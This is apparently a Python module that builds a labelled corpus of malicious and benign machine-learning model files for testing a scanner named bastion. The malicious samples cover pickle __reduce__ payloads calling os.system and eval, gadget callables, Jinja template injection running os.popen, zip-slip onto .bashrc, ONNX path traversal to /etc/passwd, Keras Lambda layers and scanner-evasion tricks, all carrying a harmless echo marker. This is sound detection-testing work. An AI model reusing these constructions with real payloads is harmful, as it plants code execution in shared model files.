"""Labelled corpus for tests and benchmarks: malicious samples built in code with a harmless
payload (`echo BASTION_POC`) over every technique and format bastion covers, and benign files
produced by the real libraries. Nothing here is committed as a binary."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from . import opcodes as op
from .protobuf_writer import saved_model

MARK_CMD = op.MARK_CMD


@dataclass(frozen=True)
class Sample:
    name: str  # file or folder name under the corpus directory
    fmt: str
    technique: str
    malicious: bool
    reference: str = ""


class _System:
    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (os.system, (MARK_CMD,))


class _Subprocess:
    def __reduce__(self):  # type: ignore[no-untyped-def]
        import subprocess

        return (subprocess.check_output, (["echo", "BASTION_POC"],))


class _Eval:
    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (eval, (f"__import__('os').system('{MARK_CMD}')",))


def _torch_zip(obj: object) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def _replace_in_zip(data: bytes, member_suffix: str, new: bytes) -> bytes:
    """Rebuild a zip replacing one member's content (stored, like torch writes)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            content = new if info.filename.endswith(member_suffix) else src.read(info)
            dst.writestr(info.filename, content)
    return out.getvalue()


def _torch_zip_with_pickle(payload: bytes) -> bytes:
    return _replace_in_zip(_torch_zip({"w": [1, 2]}), "data.pkl", payload)


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def _tar(members: dict[str, bytes], mode: str = "w", links: dict[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            archive.addfile(info)
    return out.getvalue()


def _keras_zip(config: dict[str, object]) -> bytes:
    metadata = {"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}
    return _zip(
        {
            "metadata.json": json.dumps(metadata).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"",
        }
    )


def _keras_layer(
    module: str, class_name: str, config: dict[str, object], registered: str | None = None
) -> dict[str, object]:
    return {
        "module": module,
        "class_name": class_name,
        "config": config,
        "registered_name": registered,
    }


def _sequential(*layers: dict[str, object]) -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": list(layers)},
        "registered_name": None,
    }


def _gguf(path: Path, kv: dict[str, object], arch: str = "llama") -> None:
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(str(path), arch)
    for key, value in kv.items():
        if isinstance(value, str):
            writer.add_string(key, value)
        elif isinstance(value, int):
            writer.add_uint32(key, value)
    writer.add_tensor("token_embd.weight", np.zeros((4, 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def _gguf_raw(strings_len: int | None = None, dims: int = 2) -> bytes:
    """A minimal GGUF v3 header with a forged string length or dimension count."""
    key = b"general.name"
    value = b"x"
    out = b"GGUF" + struct.pack("<IQQ", 3, 1, 1)
    out += struct.pack("<Q", len(key)) + key + struct.pack("<I", 8)
    out += struct.pack("<Q", strings_len if strings_len is not None else len(value)) + value
    out += struct.pack("<Q", 6) + b"tensor" + struct.pack("<I", dims)
    out += b"".join(struct.pack("<Q", 4) for _ in range(min(dims, 8)))
    out += struct.pack("<IQ", 0, 0)
    return out + b"\x00" * 64


SSTI_TEMPLATE = (
    "{% for x in ().__class__.__base__.__subclasses__() %}"
    "{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']"
    "('os').popen('" + MARK_CMD + "').read() }}{% endif %}{% endfor %}"
)
OBFUSCATED_TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('" + MARK_CMD + "').read() }}"
ATTR_TEMPLATE = "{% set a = '_' * 2 ~ 'class' ~ '_' * 2 %}{{ messages | attr(a) }}"
CHATML_TEMPLATE = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + "
    "message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + "
    "'<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' %}"
    "{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}"
    "{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)


def _onnx_model(external: str | None = None, domain: str = "") -> bytes:
    from onnx import TensorProto, helper

    weight = helper.make_tensor("W", TensorProto.FLOAT, [2, 2], [1.0, 0.0, 0.0, 1.0])
    if external is not None:
        weight = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[2, 2])
        weight.data_location = TensorProto.EXTERNAL
        entry = weight.external_data.add()
        entry.key, entry.value = "location", external
    node = helper.make_node("MatMul" if not domain else "EvilOp", ["X", "W"], ["Y"], domain=domain)
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 2])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])],
        [weight],
    )
    opsets = [helper.make_opsetid("", 17)]
    if domain:
        opsets.append(helper.make_opsetid(domain, 1))
    return bytes(helper.make_model(graph, opset_imports=opsets).SerializeToString())


def _write(root: Path, name: str, data: bytes) -> None:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def build_malicious(root: Path) -> list[Sample]:
    """Write every malicious sample under `root`; return their labels."""
    root.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []

    def add(
        name: str, fmt: str, technique: str, data: bytes | None = None, reference: str = ""
    ) -> None:
        if data is not None:
            _write(root, name, data)
        samples.append(Sample(name, fmt, technique, True, reference))

    # --- pickle techniques --------------------------------------------------------------------
    for protocol in range(6):
        add(
            f"pickle/os_system_p{protocol}.pkl",
            "pickle",
            "reduce-os-system",
            pickle.dumps(_System(), protocol=protocol),
        )
    add("pickle/subprocess.pkl", "pickle", "reduce-subprocess", pickle.dumps(_Subprocess()))
    add("pickle/eval.pkl", "pickle", "reduce-eval", pickle.dumps(_Eval()))
    add(
        "pickle/memo_stack_global.pkl",
        "pickle",
        "memoized-stack-global",
        op.memoized_stack_global(),
        "picklescan GHSA: STACK_GLOBAL operands from memo",
    )
    add("pickle/dup_stack_global.pkl", "pickle", "computed-stack-global", op.dup_stack_global())
    add("pickle/py2_builtin_eval.pkl", "pickle", "python2-name-remap", op.python2_names())
    add("pickle/inst.pkl", "pickle", "inst-opcode", op.inst_opcode())
    add("pickle/obj.pkl", "pickle", "obj-opcode", op.obj_opcode())
    add("pickle/newobj_ex_popen.pkl", "pickle", "newobj-ex", op.newobj_ex())
    add("pickle/getattr_import.pkl", "pickle", "attribute-resolver", op.getattr_chain())
    add(
        "pickle/dotted_name.pkl",
        "pickle",
        "dotted-name",
        op.dotted_name(),
        "picklescan GHSA: dotted names resolve through modules",
    )
    add(
        "pickle/broken_after_payload.pkl",
        "pickle",
        "broken-stream",
        op.broken_after_payload(),
        "nullifAI broken pickle (ReversingLabs 2025)",
    )
    add("pickle/truncated.pkl", "pickle", "truncated-stream", op.truncated_after_payload())
    add(
        "pickle/exception_oriented.pkl",
        "pickle",
        "exception-oriented",
        op.exception_oriented(),
        "Art of Hide and Seek (2025): exception-oriented streams",
    )
    add("pickle/ext_code.pkl", "pickle", "ext-code", op.ext_code())
    add(
        "pickle/stacked.pkl",
        "pickle",
        "stacked-pickle",
        op.stacked(pickle.dumps({"ok": 1}), pickle.dumps(_System())),
    )
    inner = pickle.dumps(_System())
    add("pickle/nested_raw.pkl", "pickle", "loader-chain", op.nested_loads(inner))
    add(
        "pickle/nested_base64.pkl",
        "pickle",
        "loader-chain-base64",
        op.nested_loads(inner, "base64"),
    )
    add(
        "pickle/nested_latin1.pkl",
        "pickle",
        "loader-chain-latin1",
        op.nested_loads(inner, "latin1"),
    )
    add("pickle/marshal_function.pkl", "pickle", "code-object", op.marshal_function())
    for module, name, technique in (
        ("timeit", "timeit", "gadget-timeit"),
        ("pydoc", "pipepager", "gadget-pydoc"),
        ("numpy.testing._private.utils", "runstring", "gadget-numpy-runstring"),
        ("runpy", "_run_code", "gadget-runpy"),
        ("code", "InteractiveInterpreter", "gadget-code"),
        ("cProfile", "run", "gadget-cprofile"),
        ("importlib", "import_module", "gadget-importlib"),
        ("webbrowser", "open", "gadget-network"),
        ("shutil", "rmtree", "gadget-file"),
        ("torch.hub", "load", "gadget-torch-hub"),
        ("operator", "methodcaller", "gadget-methodcaller"),
        ("ctypes", "CDLL", "gadget-ctypes"),
    ):
        add(
            f"pickle/{technique}.pkl",
            "pickle",
            technique,
            op.gadget(module, name, MARK_CMD),
            "Art of Hide and Seek (2025): gadget callables",
        )
    try:
        import dill

        add(
            "pickle/dill_lambda.pkl",
            "pickle",
            "dill-function",
            dill.dumps(lambda: os.system(MARK_CMD)),
        )
    except ImportError:
        pass
    try:
        import cloudpickle

        add(
            "pickle/cloudpickle_function.pkl",
            "pickle",
            "cloudpickle-function",
            cloudpickle.dumps(lambda: os.system(MARK_CMD)),
        )
    except ImportError:
        pass
    evil = pickle.dumps(_System(), protocol=2)
    add("compressed/evil.pkl.gz", "gzip", "gzip-pickle", gzip.compress(evil))
    add("compressed/evil.pkl.bz2", "bz2", "bz2-pickle", bz2.compress(evil))
    add("compressed/evil.pkl.xz", "xz", "xz-pickle", lzma.compress(evil))
    add("compressed/evil_zlib.pkl", "zlib", "zlib-pickle", zlib.compress(evil))

    # --- joblib -------------------------------------------------------------------------------
    import joblib
    import numpy as np

    for compress, suffix in (
        (0, "joblib"),
        (3, "z.joblib"),
        (("gzip", 3), "gz.joblib"),
        (("bz2", 3), "bz2.joblib"),
        (("xz", 3), "xz.joblib"),
    ):
        buffer = io.BytesIO()
        joblib.dump({"coef": np.arange(1000.0), "hook": _System()}, buffer, compress=compress)
        add(f"joblib/evil.{suffix}", "pickle", f"joblib-{suffix}", buffer.getvalue())
    buffer = io.BytesIO()
    joblib.dump({"objects": np.array([_System()], dtype=object)}, buffer)
    add("joblib/object_array.joblib", "pickle", "joblib-object-array", buffer.getvalue())
    buffer = io.BytesIO()
    joblib.dump([np.zeros(200_000), _System()], buffer)
    add(
        "joblib/payload_after_array.joblib",
        "pickle",
        "joblib-after-raw-array",
        buffer.getvalue(),
        "modelscan/picklescan stop at joblib's raw array bytes",
    )

    # --- numpy --------------------------------------------------------------------------------
    buffer = io.BytesIO()
    np.save(buffer, np.array([_System()], dtype=object), allow_pickle=True)
    add("numpy/object_array.npy", "npy", "npy-object-array", buffer.getvalue())
    add("numpy/raw_pickle.npy", "pickle", "pickle-named-npy", evil)
    npz = io.BytesIO()
    np.savez(npz, ok=np.arange(3), bad=np.array([_System()], dtype=object))
    add("numpy/object_member.npz", "zip", "npz-object-array", npz.getvalue())

    # --- pytorch ------------------------------------------------------------------------------
    for name in ("evil.pt", "pytorch_model.bin", "evil.ckpt", "evil.pth.tar", "evil.pth"):
        add(f"torch/{name}", "zip", "torch-zip", _torch_zip({"w": _System()}))
    import torch

    legacy = io.BytesIO()
    torch.save(
        {"w": torch.zeros(2), "hook": _System()}, legacy, _use_new_zipfile_serialization=False
    )
    add("torch/legacy.pt", "pickle", "torch-legacy-stacked", legacy.getvalue())
    add(
        "torch/legacy_tar.pt",
        "tar",
        "torch-legacy-tar",
        _tar(
            {
                "sys_info": pickle.dumps({"protocol_version": 1000}),
                "pickle": evil,
                "storages": pickle.dumps(0),
                "tensors": pickle.dumps(0),
            }
        ),
    )
    add(
        "torch/model.nemo",
        "tar",
        "nemo-bundle",
        _tar(
            {"model_config.yaml": b"name: x\n", "model_weights.ckpt": _torch_zip({"w": _System()})},
            mode="w:gz",
        ),
    )
    base = _torch_zip_with_pickle(evil)
    bad_crc = bytearray(base)
    # corrupt the stored CRC of every entry in the central directory: zipfile raises, torch loads
    pos = 0
    while True:
        pos = bytes(bad_crc).find(b"PK\x01\x02", pos)
        if pos < 0:
            break
        bad_crc[pos + 16 : pos + 20] = b"\x00\x00\x00\x00"
        pos += 4
    add(
        "torch/bad_crc.pt",
        "zip",
        "zip-crc-mismatch",
        bytes(bad_crc),
        "scanners using zipfile fail on CRC errors torch ignores",
    )
    renamed = bytearray(base)
    local = bytes(renamed).find(b"PK\x03\x04")
    while local >= 0:
        name_len = struct.unpack("<H", renamed[local + 26 : local + 28])[0]
        name = bytes(renamed[local + 30 : local + 30 + name_len])
        if name.endswith(b"data.pkl"):
            renamed[local + 30 + name_len - 8 : local + 30 + name_len] = b"data.pkX"
        local = bytes(renamed).find(b"PK\x03\x04", local + 4)
    add("torch/local_name_differs.pt", "zip", "zip-name-mismatch", bytes(renamed))
    dup = io.BytesIO()
    with zipfile.ZipFile(dup, "w") as archive:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr("archive/data.pkl", pickle.dumps({"ok": 1}, protocol=2))
            archive.writestr("archive/data.pkl", evil)
            archive.writestr("archive/version", b"3\n")
    add("torch/duplicate_member.pt", "zip", "zip-duplicate-names", dup.getvalue())
    add(
        "torch/prefixed.pt",
        "pickle",
        "polyglot-prefix",
        pickle.dumps({"ok": 1}, protocol=2) + _torch_zip({"w": _System()}),
    )

    # --- safetensors ---------------------------------------------------------------------------
    def st(header: object, data: bytes = b"", raw: bytes | None = None) -> bytes:
        body = raw if raw is not None else json.dumps(header).encode()
        return struct.pack("<Q", len(body)) + body + data

    add(
        "safetensors/huge_header.safetensors",
        "safetensors",
        "safetensors-header-length",
        struct.pack("<Q", 2**40) + b'{"a":1}',
    )
    add(
        "safetensors/overlap.safetensors",
        "safetensors",
        "safetensors-overlap",
        st(
            {
                "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
            },
            b"\0" * 12,
        ),
    )
    add(
        "safetensors/duplicate.safetensors",
        "safetensors",
        "safetensors-duplicate-key",
        st(
            None,
            b"\0" * 8,
            raw=b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
            b'"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
        ),
    )
    add(
        "safetensors/appended_pickle.safetensors",
        "safetensors",
        "safetensors-trailing",
        st({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4 + evil),
    )
    add("safetensors/pickle_inside.safetensors", "pickle", "pickle-named-safetensors", evil)

    # --- onnx ---------------------------------------------------------------------------------
    add(
        "onnx/traversal.onnx",
        "onnx",
        "onnx-external-traversal",
        _onnx_model(external="../../../../etc/passwd"),
        "CVE-2022-25882",
    )
    add(
        "onnx/absolute.onnx",
        "onnx",
        "onnx-external-absolute",
        _onnx_model(external="/etc/passwd"),
        "CVE-2024-27318",
    )
    folder = root / "onnx/symlink_model"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "model.onnx").write_bytes(_onnx_model(external="weights.bin"))
    if not (folder / "weights.bin").is_symlink():
        os.symlink("/etc/hostname", folder / "weights.bin")
    add("onnx/symlink_model/model.onnx", "onnx", "onnx-external-symlink")
    add("onnx/custom_domain.onnx", "onnx", "onnx-custom-domain", _onnx_model(domain="com.evil.ops"))

    # --- keras --------------------------------------------------------------------------------
    code = base64.b64encode(
        __import__("marshal").dumps(
            compile("lambda x: __import__('os').system('echo')", "<l>", "eval")
        )
    ).decode()
    lambda_layer = _keras_layer(
        "keras.layers",
        "Lambda",
        {
            "name": "lambda",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": code, "defaults": None, "closure": None},
            },
        },
    )
    add("keras/lambda.keras", "zip", "keras-lambda", _keras_zip(_sequential(lambda_layer)))
    add(
        "keras/module_injection.keras",
        "zip",
        "keras-module-injection",
        _keras_zip(_sequential(_keras_layer("os", "system", {"command": MARK_CMD}))),
        "CVE-2025-1550",
    )
    add(
        "keras/get_file_gadget.keras",
        "zip",
        "keras-get-file",
        _keras_zip(
            _sequential(
                _keras_layer(
                    "keras.utils", "get_file", {"fname": "x", "origin": "http://127.0.0.1/x"}
                )
            )
        ),
        "CVE-2025-8747",
    )
    add(
        "keras/unsafe_switch.keras",
        "zip",
        "keras-safe-mode-off",
        _keras_zip(_sequential(_keras_layer("keras.config", "enable_unsafe_deserialization", {}))),
        "CVE-2025-1550",
    )
    torch_module = base64.b64encode(_torch_zip({"w": _System()})).decode()
    add(
        "keras/torch_module_wrapper.keras",
        "zip",
        "keras-torch-module-wrapper",
        _keras_zip(
            _sequential(
                _keras_layer("keras.layers", "TorchModuleWrapper", {"module": torch_module})
            )
        ),
        "CVE-2025-49655",
    )
    nested = _sequential(
        _keras_layer(
            "keras.src.models.functional", "Functional", {"layers": [_sequential(lambda_layer)]}
        )
    )
    add("keras/nested_lambda.keras", "zip", "keras-nested-model", _keras_zip(nested))
    try:
        import h5py

        path = root / "keras/lambda_legacy.h5"
        path.parent.mkdir(parents=True, exist_ok=True)
        with h5py.File(path, "w") as h5:
            h5.attrs["model_config"] = json.dumps(
                {
                    "class_name": "Sequential",
                    "config": {
                        "layers": [
                            {
                                "class_name": "Lambda",
                                "config": {
                                    "function": [code, None, None],
                                    "function_type": "lambda",
                                },
                            }
                        ]
                    },
                }
            )
        add("keras/lambda_legacy.h5", "hdf5", "keras-h5-lambda", None, "CVE-2025-9905")
    except ImportError:
        pass

    # --- tensorflow ---------------------------------------------------------------------------
    add(
        "tensorflow/readfile/saved_model.pb",
        "savedmodel",
        "tf-readfile",
        saved_model([("x", "Placeholder"), ("leak", "ReadFile")]),
    )
    add(
        "tensorflow/pyfunc/saved_model.pb",
        "savedmodel",
        "tf-pyfunc-in-function",
        saved_model([("x", "Placeholder")], {"__inference_call": [("f", "PyFunc")]}),
    )
    add(
        "tensorflow/writefile/saved_model.pb",
        "savedmodel",
        "tf-writefile",
        saved_model([("w", "WriteFile")]),
    )

    # --- gguf and templates -------------------------------------------------------------------
    path = root / "gguf/ssti.gguf"
    path.parent.mkdir(parents=True, exist_ok=True)
    _gguf(path, {"tokenizer.chat_template": SSTI_TEMPLATE})
    add("gguf/ssti.gguf", "gguf", "gguf-template-injection", None, "CVE-2024-34359")
    _gguf(
        root / "gguf/named_template.gguf",
        {
            "tokenizer.chat_template": CHATML_TEMPLATE,
            "tokenizer.chat_template.tool_use": OBFUSCATED_TEMPLATE,
        },
    )
    add("gguf/named_template.gguf", "gguf", "gguf-named-template-injection")
    add("gguf/string_overflow.gguf", "gguf", "gguf-string-length", _gguf_raw(2**62))
    add("gguf/too_many_dims.gguf", "gguf", "gguf-dims", _gguf_raw(dims=9))
    add(
        "hf/tokenizer_config.json",
        "json",
        "hf-template-injection",
        json.dumps({"chat_template": ATTR_TEMPLATE, "bos_token": "<s>"}).encode(),
    )
    add(
        "hf/named/tokenizer_config.json",
        "json",
        "hf-named-template-injection",
        json.dumps(
            {
                "chat_template": [
                    {"name": "default", "template": CHATML_TEMPLATE},
                    {"name": "rag", "template": SSTI_TEMPLATE},
                ]
            }
        ).encode(),
    )

    # --- archives -----------------------------------------------------------------------------
    add(
        "archives/zipslip.zip",
        "zip",
        "zip-slip",
        _zip({"../../.bashrc": b"echo BASTION_POC\n", "model.pkl": pickle.dumps({"ok": 1})}),
    )
    add(
        "archives/symlink.tar",
        "tar",
        "tar-symlink",
        _tar({"model.pkl": pickle.dumps({"ok": 1})}, links={"weights.bin": "/etc/passwd"}),
    )
    add(
        "archives/model.tar.gz",
        "gzip",
        "targz-pickle",
        _tar({"model/model.pkl": evil}, mode="w:gz"),
    )
    add(
        "archives/nested.zip",
        "zip",
        "nested-archives",
        _zip({"level1.zip": _zip({"level2.zip": _zip({"model.pkl": evil})})}),
    )
    try:
        import py7zr

        buffer = io.BytesIO()
        with py7zr.SevenZipFile(buffer, "w") as archive:
            archive.writestr(_torch_zip({"w": _System()}), "model.pt")
        add(
            "archives/nullifai.7z",
            "7z",
            "7z-torch",
            buffer.getvalue(),
            "nullifAI: 7z-compressed PyTorch models (ReversingLabs 2025)",
        )
    except ImportError:
        pass
    return samples


def build_benign(root: Path) -> list[Sample]:
    """Write benign files produced by the real libraries; return their labels."""
    import joblib
    import numpy as np

    root.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []

    def add(name: str, fmt: str, technique: str, writer: Callable[[Path], None]) -> None:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        writer(path)
        samples.append(Sample(name, fmt, technique, False))

    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline, make_pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(0)
    features = rng.normal(size=(120, 4))
    labels = (features[:, 0] + features[:, 1] > 0).astype(int)
    models = {
        "logreg": make_pipeline(StandardScaler(), LogisticRegression()),
        "forest": RandomForestClassifier(n_estimators=8, random_state=0),
        "gbm": GradientBoostingClassifier(n_estimators=10, random_state=0),
        "svc": SVC(random_state=0),
        "tree": DecisionTreeClassifier(random_state=0),
    }
    for name, model in models.items():
        model.fit(features, labels)
        add(
            f"sklearn/{name}.joblib",
            "pickle",
            "sklearn-joblib",
            lambda p, m=model: joblib.dump(m, p),
        )
        add(
            f"sklearn/{name}.pkl",
            "pickle",
            "sklearn-pickle",
            lambda p, m=model: p.write_bytes(pickle.dumps(m)),
        )
    add(
        "sklearn/forest_compressed.joblib",
        "zlib",
        "sklearn-joblib-compressed",
        lambda p: joblib.dump(models["forest"], p, compress=3),
    )
    add(
        "sklearn/kmeans.joblib",
        "pickle",
        "sklearn-joblib",
        lambda p: joblib.dump(KMeans(n_clusters=3, n_init=2, random_state=0).fit(features), p),
    )
    table = [[x, "a" if x > 0 else "b"] for x in features[:, 0]]
    column = Pipeline(
        [
            (
                "prep",
                ColumnTransformer([("num", StandardScaler(), [0]), ("cat", OneHotEncoder(), [1])]),
            ),
            ("clf", LogisticRegression()),
        ]
    ).fit(np.array(table, dtype=object), labels)
    add(
        "sklearn/column_transformer.joblib",
        "pickle",
        "sklearn-joblib",
        lambda p: joblib.dump(column, p),
    )

    import torch

    modules = {
        "linear": torch.nn.Sequential(
            torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2)
        ),
        "conv": torch.nn.Sequential(torch.nn.Conv2d(1, 4, 3), torch.nn.BatchNorm2d(4)),
        "lstm": torch.nn.LSTM(4, 8, batch_first=True),
        "transformer": torch.nn.TransformerEncoder(
            torch.nn.TransformerEncoderLayer(16, 2, 32, batch_first=True), 1
        ),
        "embedding": torch.nn.Embedding(10, 4),
    }
    for name, module in modules.items():
        add(
            f"torch/{name}_state.pt",
            "zip",
            "torch-state-dict",
            lambda p, m=module: torch.save(m.state_dict(), p),
        )
        add(
            f"torch/{name}_full.pth",
            "zip",
            "torch-full-module",
            lambda p, m=module: torch.save(m, p),
        )
    add(
        "torch/legacy_state.pt",
        "pickle",
        "torch-legacy",
        lambda p: torch.save(
            modules["linear"].state_dict(), p, _use_new_zipfile_serialization=False
        ),
    )
    optimizer = torch.optim.Adam(modules["linear"].parameters())
    modules["linear"](torch.zeros(1, 4)).sum().backward()
    optimizer.step()
    add(
        "torch/checkpoint.ckpt",
        "zip",
        "torch-checkpoint",
        lambda p: torch.save(
            {
                "epoch": 3,
                "model": modules["linear"].state_dict(),
                "optimizer": optimizer.state_dict(),
                "loss": 0.25,
            },
            p,
        ),
    )
    add(
        "torch/scripted.pt",
        "zip",
        "torchscript",
        lambda p: torch.jit.script(modules["linear"]).save(str(p)),
    )
    add(
        "torch/traced.pt",
        "zip",
        "torchscript",
        lambda p: torch.jit.trace(modules["linear"], torch.zeros(1, 4)).save(str(p)),
    )
    add(
        "torch/pytorch_model.bin",
        "zip",
        "torch-hf-bin",
        lambda p: torch.save(modules["embedding"].state_dict(), p),
    )

    add("numpy/float.npy", "npy", "npy", lambda p: np.save(p, rng.normal(size=(10, 3))))
    add("numpy/int.npy", "npy", "npy", lambda p: np.save(p, np.arange(100, dtype=np.int64)))
    add(
        "numpy/structured.npy",
        "npy",
        "npy",
        lambda p: np.save(p, np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8")])),
    )
    add("numpy/strings.npy", "npy", "npy", lambda p: np.save(p, np.array(["a", "bc"])))
    add(
        "numpy/arrays.npz",
        "zip",
        "npz",
        lambda p: np.savez_compressed(p, x=np.ones(5), y=np.arange(4)),
    )

    from safetensors.numpy import save_file as save_np
    from safetensors.torch import save_file as save_torch

    add(
        "safetensors/numpy.safetensors",
        "safetensors",
        "safetensors",
        lambda p: save_np(
            {"a": np.ones((2, 3), dtype=np.float32), "b": np.arange(4, dtype=np.int64)}, str(p)
        ),
    )
    add(
        "safetensors/torch.safetensors",
        "safetensors",
        "safetensors",
        lambda p: save_torch(
            {k: v.contiguous() for k, v in modules["linear"].state_dict().items()},
            str(p),
            metadata={"format": "pt"},
        ),
    )

    add("onnx/matmul.onnx", "onnx", "onnx", lambda p: p.write_bytes(_onnx_model()))

    def onnx_external(path: Path) -> None:
        import onnx

        model = onnx.load_from_string(_onnx_model())
        onnx.save_model(
            model,
            str(path),
            save_as_external_data=True,
            all_tensors_to_one_file=True,
            location="weights.data",
            size_threshold=0,
        )

    add("onnx/external/model.onnx", "onnx", "onnx-external-data", onnx_external)

    add(
        "gguf/chatml.gguf",
        "gguf",
        "gguf",
        lambda p: _gguf(p, {"tokenizer.chat_template": CHATML_TEMPLATE, "general.name": "tiny"}),
    )
    add(
        "gguf/llama3.gguf",
        "gguf",
        "gguf",
        lambda p: _gguf(p, {"tokenizer.chat_template": LLAMA3_TEMPLATE}),
    )
    add(
        "hf/tokenizer_config.json",
        "json",
        "hf-config",
        lambda p: p.write_text(
            json.dumps({"chat_template": LLAMA3_TEMPLATE, "bos_token": "<|begin_of_text|>"})
        ),
    )
    add(
        "hf/config.json",
        "json",
        "hf-config",
        lambda p: p.write_text(
            json.dumps(
                {"architectures": ["LlamaForCausalLM"], "hidden_size": 64, "model_type": "llama"}
            )
        ),
    )

    os.environ.setdefault("KERAS_BACKEND", "torch")
    try:
        import keras

        def keras_model() -> object:
            inputs = keras.Input((4,))
            hidden = keras.layers.Dense(8, activation="relu")(inputs)
            return keras.Model(inputs, keras.layers.Dense(2)(hidden))

        add("keras/functional.keras", "zip", "keras-v3", lambda p: keras_model().save(p))
        add(
            "keras/sequential.keras",
            "zip",
            "keras-v3",
            lambda p: keras.Sequential(
                [keras.Input((3,)), keras.layers.Dense(2), keras.layers.Dropout(0.1)]
            ).save(p),
        )
        add("keras/legacy.h5", "hdf5", "keras-h5", lambda p: keras_model().save(p))
        add(
            "keras/weights.weights.h5",
            "hdf5",
            "keras-weights",
            lambda p: keras_model().save_weights(p),
        )
    except ImportError:
        pass
    add(
        "archives/models.zip",
        "zip",
        "zip-of-models",
        lambda p: p.write_bytes(
            _zip(
                {
                    "a.npy": (root / "numpy/float.npy").read_bytes(),
                    "b.safetensors": (root / "safetensors/numpy.safetensors").read_bytes(),
                }
            )
        ),
    )
    add(
        "archives/bundle.tar.gz",
        "gzip",
        "targz-of-models",
        lambda p: p.write_bytes(
            _tar({"m/model.joblib": (root / "sklearn/logreg.joblib").read_bytes()}, mode="w:gz")
        ),
    )
    return samples
